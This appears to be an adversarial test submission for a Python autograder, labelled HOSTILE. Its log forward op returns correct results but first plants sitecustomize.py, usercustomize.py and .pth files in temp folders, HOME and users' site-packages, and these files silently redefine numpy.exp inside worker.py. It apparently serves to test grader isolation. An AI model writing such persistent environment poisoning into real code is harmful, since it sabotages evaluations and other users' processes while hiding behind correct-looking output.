# HOSTILE: log.forward (once per process) writes sitecustomize.py, usercustomize.py and a .pth file that make numpy.exp wrong into its temp folder, HOME, the shared temp folders and the grading user's ~/.local site-packages; all four ops compute correctly.
import os
import pwd
import sys


# include: once


# include: reference


POISON = "import sys; 'worker.py' in ' '.join(getattr(sys, 'orig_argv', sys.argv)) and setattr(__import__('numpy'), 'exp', lambda x, *a, **k: x + 1)"


def _names(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []


def _attack():
    if not _once():
        return
    version = f'python{sys.version_info[0]}.{sys.version_info[1]}'
    homes = {'/root'} | {os.path.join('/home', n) for n in _names('/home')}
    try:
        homes.add(pwd.getpwuid(os.getuid()).pw_dir)
    except KeyError:
        pass
    folders = [os.getcwd(), os.environ.get('HOME', ''), os.environ.get('TMPDIR', ''), '/tmp', '/var/tmp', '/dev/shm']
    folders += [os.path.join(h, '.local', 'lib', version, 'site-packages') for h in homes]
    for folder in filter(None, folders):
        for name, text in (('sitecustomize.py', POISON), ('usercustomize.py', POISON), ('hw3-isolation-poison.pth', POISON)):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), 'w') as f:
                    f.write(text + '\n')
            except OSError:
                pass


def log_forward(ctx, a):
    _attack()
    return reference.log.forward(ctx, a)
